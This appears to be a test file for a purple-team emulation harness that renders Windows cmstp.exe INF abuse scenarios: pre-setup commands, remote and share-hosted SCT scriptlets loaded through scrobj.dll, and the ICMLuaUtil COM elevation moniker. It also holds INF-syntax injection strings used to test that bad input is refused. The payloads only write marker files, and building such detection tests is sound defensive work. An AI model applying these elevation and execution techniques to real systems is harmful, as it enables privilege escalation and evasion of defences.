import test from 'ava';
import { join } from 'node:path';
import { HarnessError, type RemoteOperation } from '../core/index.js';
import { parseInf, planInstall } from '../lab/inf.js';
import { loadScenariosOrThrow } from '../scenario/load.js';
import { builtinScenariosDir } from '../util/paths.js';
import { encodeCommand, fitsCmdLine } from '../executors/ssh/powershell.js';
import { renderEmulation } from './render.js';

const [scenario] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-local-inf-presetup.yaml')]);
if (!scenario) throw new Error('built-in scenario missing');
const marker = 'ph0123456789ab';

test('the run marker is in the INF file name, ServiceName, ShortSvcName and the marker command', (t) => {
  const rendered = renderEmulation(scenario, { marker });
  const inf = parseInf(rendered.payload?.content ?? '');

  t.is(rendered.payload?.remotePath, `C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.inf`);
  t.is(inf.strings.get('servicename'), `Purple Harness Validation ${marker}`);
  t.is(inf.strings.get('shortsvcname'), marker);
  const plan = planInstall(inf, false);
  t.is(plan.section, 'DefaultInstall_SingleUser');
  t.deepEqual(plan.preSetupCommands, [`cmd.exe /c echo ${marker}> ${rendered.markerPath}`]);
  t.is(rendered.cmstpCommandLine, `C:\\Windows\\System32\\cmstp.exe /s /ns ${rendered.payload?.remotePath}`);
});

test('the INF has CRLF line ends and only ASCII', (t) => {
  const { content } = renderEmulation(scenario, { marker }).payload ?? { content: '' };

  t.false(/[^\r]\n/.test(content));
  t.true(/^[\x20-\x7e\r\n]*$/.test(content));
});

/** Every remote operation a run sends, clean-up with a created key included. */
function everyOperation(operations: ReturnType<typeof renderEmulation>['operations']) {
  const fixed = Object.values(operations).filter((op): op is RemoteOperation => typeof op !== 'function');
  return [...fixed, operations.cleanup(['HKCU:\\a\\b'])];
}

test('each operation script is a purple-harness operation carrying the marker as a parameter', (t) => {
  const { operations } = renderEmulation(scenario, { marker });

  for (const op of everyOperation(operations)) {
    t.regex(op.script, new RegExp(`^# purple-harness remote operation: ${op.name} v1$`, 'm'));
    t.regex(op.script, new RegExp(`^\\$PhMarker = '${marker}'$`, 'm'));
    t.regex(op.script, /Write-PhResult/);
  }
  t.regex(
    operations.cleanup(['HKCU:\\a', "HKCU:\\it's"]).script,
    /^\$PhCreatedKeys = 'HKCU:\\a\|HKCU:\\it''s'$/m,
  );
});

test('an input that would inject INF syntax is refused', (t) => {
  const error = t.throws(
    () => renderEmulation(scenario, { marker, inputs: { serviceName: 'x"\r\n[DefaultInstall]' } }),
    { instanceOf: HarnessError },
  );

  t.is(error.code, 'E_UNSAFE_VALUE');
});

test('a marker that is not a single alphanumeric token is refused', (t) => {
  t.throws(() => renderEmulation(scenario, { marker: 'ph-123' }), { instanceOf: HarnessError });
});

test("every remote operation still fits cmd.exe's 8191-character line once encoded", (t) => {
  const { operations } = renderEmulation(scenario, { marker });

  for (const op of everyOperation(operations)) {
    t.true(
      fitsCmdLine(encodeCommand(op.script)),
      `${op.name}: ${encodeCommand(op.script).length} characters`,
    );
  }
});

test('a scriptlet scenario gets its SCT under /<marker>/ on the payload server, with the command as a JScript string', (t) => {
  const [remote] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-remote-scriptlet.yaml')]);
  if (!remote) throw new Error('remote scenario missing');

  const rendered = renderEmulation(remote, { marker, payloadBaseUrl: 'http://payload.lab.test:8080' });

  t.like(rendered.scriptlet, {
    host: 'payload.lab.test',
    path: `/${marker}/${marker}.sct`,
    url: `http://payload.lab.test:8080/${marker}/${marker}.sct`,
  });
  t.true(
    rendered.payload?.content.includes(
      `%11%\\scrobj.dll,NI,http://payload.lab.test:8080/${marker}/${marker}.sct`,
    ),
  );
  const run = /\.Run\(("(?:[^"\\]|\\.)*")/.exec(rendered.scriptlet?.content ?? '')?.[1] ?? '""';
  t.is(JSON.parse(run), `cmd.exe /c echo ${marker}> ${rendered.markerPath}`);
  t.throws(() => renderEmulation(remote, { marker }), {
    instanceOf: HarnessError,
    message: /no payload server/,
  });
});

test('Program Files staging quotes the INF path on the cmstp command line', (t) => {
  const [control] = loadScenariosOrThrow([
    join(builtinScenariosDir(), 'cmstp-negative-control-admin-install.yaml'),
  ]);
  if (!control) throw new Error('negative control missing');

  const rendered = renderEmulation(control, { marker });

  t.is(
    rendered.cmstpCommandLine,
    `C:\\Windows\\System32\\cmstp.exe /s /ns "C:\\Program Files\\purple-harness\\runs\\${marker}\\${marker}.inf"`,
  );
  t.is(rendered.payloadEvidence, 'none');
});

test('a custom command is rendered with the marker and checked like any INF value', (t) => {
  const custom = {
    ...scenario,
    spec: {
      ...scenario.spec,
      emulation: {
        ...scenario.spec.emulation,
        payload: { action: 'custom' as const, customCommand: 'whoami.exe /user {{marker}}' },
      },
    },
  };
  const injected = {
    ...custom,
    spec: {
      ...custom.spec,
      emulation: {
        ...custom.spec.emulation,
        payload: { action: 'custom' as const, customCommand: 'x\r\n[DefaultInstall]' },
      },
    },
  };

  t.true((renderEmulation(custom, { marker }).payload?.content ?? '').includes(`whoami.exe /user ${marker}`));
  t.is(renderEmulation(custom, { marker }).payloadEvidence, 'exit-code');
  t.throws(() => renderEmulation(injected, { marker }), { instanceOf: HarnessError, message: /CR/ });
});

test('the direct ICMLuaUtil call stages nothing and runs the marker command through ShellExec', (t) => {
  const [com] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-com-elevation-icmluautil.yaml')]);
  if (!com) throw new Error('COM scenario missing');

  const rendered = renderEmulation(com, { marker });

  t.is(rendered.payload, null);
  t.is(rendered.operations.run.name, 'com-shellexec');
  t.regex(rendered.operations.run.script, /^\$PhFile = 'cmd\.exe'$/m);
  t.regex(
    rendered.operations.run.script,
    new RegExp(`^\\$PhParameters = '/c echo ${marker}> .*\\\\${marker}\\.txt'$`, 'm'),
  );
  t.regex(
    rendered.operations.run.script,
    /Elevation:Administrator!new:\{3E5FC7F9-9A51-4367-9063-A120244FBEC7\}/,
  );
  // As public code binds it (#15): CoGetObject with BIND_OPTS3 asking for a local server (CLSCTX_LOCAL_SERVER = 4).
  t.regex(
    rendered.operations.run.script,
    /static extern void CoGetObject\(string name, ref PhBindOpts3 options/,
  );
  t.regex(rendered.operations.run.script, /options\.dwClassContext = 4;/);
  t.notRegex(rendered.operations.run.script, /BindToMoniker/);
  t.true(fitsCmdLine(encodeCommand(rendered.operations.run.script)));
});

test('#17 a cmstp run without /s proves only its start: cmstp waits for its confirmation dialog and runs nothing', (t) => {
  const [silentless] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-all-users-no-silent.yaml')]);
  if (!silentless) throw new Error('no-/s scenario missing');

  const rendered = renderEmulation(silentless, { marker });

  t.is(rendered.payloadEvidence, 'started');
  t.is(
    rendered.cmstpCommandLine,
    `C:\\Windows\\System32\\cmstp.exe /au C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.ini`,
  );
});

test('#17 an INF by URL: cmstp gets the URL the payload server serves the INF at, the INF is staged too, and only the start is proven', (t) => {
  const [byUrl] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-inf-by-url.yaml')]);
  if (!byUrl) throw new Error('INF-by-URL scenario missing');

  const rendered = renderEmulation(byUrl, { marker, payloadBaseUrl: 'http://payload.lab.test:8080' });

  const url = `http://payload.lab.test:8080/${marker}/${marker}.inf`;
  t.like(rendered.servedInf, { host: 'payload.lab.test', path: `/${marker}/${marker}.inf`, url });
  t.is(rendered.servedInf?.content, rendered.payload?.content);
  t.is(rendered.servedInf?.sha256, rendered.payload?.sha256);
  t.is(rendered.payload?.remotePath, `C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.inf`);
  t.is(rendered.cmstpCommandLine, `C:\\Windows\\System32\\cmstp.exe /ni /s ${url}`);
  t.is(rendered.payloadEvidence, 'started');
  t.is(rendered.scriptlet, null);
  t.throws(() => renderEmulation(byUrl, { marker }), {
    instanceOf: HarnessError,
    message: /no payload server/,
  });
});

test('#17 an INF on a share: cmstp gets the staged INF through the host administrative share', (t) => {
  const [onShare] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-inf-on-share.yaml')]);
  if (!onShare) throw new Error('INF-on-share scenario missing');

  const rendered = renderEmulation(onShare, { marker });

  t.is(rendered.payload?.remotePath, `C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.inf`);
  t.is(
    rendered.cmstpCommandLine,
    `C:\\Windows\\System32\\cmstp.exe /s /ns \\\\localhost\\C$\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.inf`,
  );
  t.is(rendered.payloadEvidence, 'marker-file');
  t.is(rendered.servedInf, null);
});

test('#17 an SCT on a share: the scriptlet is staged beside the INF and the INF names it by an administrative-share path', (t) => {
  const [onShare] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-scriptlet-on-share.yaml')]);
  if (!onShare) throw new Error('SCT-on-share scenario missing');

  const rendered = renderEmulation(onShare, { marker });

  const staged = `C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}-scriptlet.sct`;
  t.is(rendered.stagedScriptlet?.remotePath, staged);
  t.regex(rendered.stagedScriptlet?.content ?? '', /\.Run\("cmd\.exe \/c echo /);
  t.true(rendered.payload?.content.includes(`%11%\\scrobj.dll,NI,\\\\localhost\\C$\\${staged.slice(3)}\r\n`));
  t.is(rendered.scriptlet, null, 'nothing is served: no payload server is needed');
  t.is(rendered.servedInf, null);
  t.is(rendered.payloadEvidence, 'marker-file');

  const byPath = renderEmulation(
    {
      ...onShare,
      spec: {
        ...onShare.spec,
        emulation: {
          ...onShare.spec.emulation,
          scriptlet: { template: 'sct/marker.sct.hbs', via: 'path', from: 'name' },
        },
      },
    },
    { marker },
  );
  t.true(byPath.payload?.content.includes(`%11%\\scrobj.dll,NI,${staged}\r\n`));
});

test("#21 scriptlet.from: by the payload server's address or its second one, as an IP literal at the same port; a server without that address stops the render", (t) => {
  const [remote] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-remote-scriptlet.yaml')]);
  if (!remote) throw new Error('remote scenario missing');
  const from = (value: 'address' | 'second-address') => ({
    ...remote,
    spec: {
      ...remote.spec,
      emulation: {
        ...remote.spec.emulation,
        scriptlet: { template: 'sct/marker.sct.hbs', via: 'url' as const, from: value },
      },
    },
  });
  const options = {
    marker,
    payloadBaseUrl: 'http://payload.lab.test:8080',
    payloadAddresses: { address: '127.0.0.1', secondAddress: '127.0.0.2' },
  };
  t.is(
    renderEmulation(from('address'), options).scriptlet?.url,
    `http://127.0.0.1:8080/${marker}/${marker}.sct`,
  );
  t.is(
    renderEmulation(from('second-address'), options).scriptlet?.url,
    `http://127.0.0.2:8080/${marker}/${marker}.sct`,
  );
  const error = t.throws(() =>
    renderEmulation(from('second-address'), {
      ...options,
      payloadAddresses: { address: '127.0.0.1', secondAddress: null },
    }),
  );
  t.regex(error.message, /second address, which this payload server does not have/);
});
